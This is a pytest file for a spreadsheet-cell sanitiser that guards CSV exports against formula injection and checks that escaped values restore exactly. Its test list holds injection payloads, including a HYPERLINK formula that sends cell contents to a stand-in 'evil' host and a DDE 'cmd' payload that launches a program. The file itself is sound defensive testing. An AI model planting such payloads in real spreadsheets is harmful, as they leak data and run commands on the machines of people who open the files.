"""Spreadsheet cells (nicat.core.spreadsheet): nothing a spreadsheet runs as a formula, and the HTCDS CSV
import gets back exactly what was exported."""
import pytest

from nicat.core.spreadsheet import restore_cell, safe_cell

VALUES = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\uff1d1+1",
          "'=already quoted", "''@twice", "'hello", "'", "", "Aysel", "+994 50 123 45 67", "O'Neil"]


@pytest.mark.parametrize("value", VALUES)
def test_no_cell_starts_a_formula_and_the_value_comes_back(value):
    cell = safe_cell(value)
    assert cell.lstrip("'")[:1] not in ("=", "+", "-", "@", "\t", "\r", "\uff1d") or cell.startswith("'")
    assert restore_cell(cell) == value


def test_plain_values_and_numbers_are_left_alone():
    assert safe_cell("Aysel") == "Aysel" and safe_cell("'hello") == "'hello" and safe_cell(-5) == -5
    assert safe_cell("=1") == "'=1" and safe_cell("'=1") == "''=1"
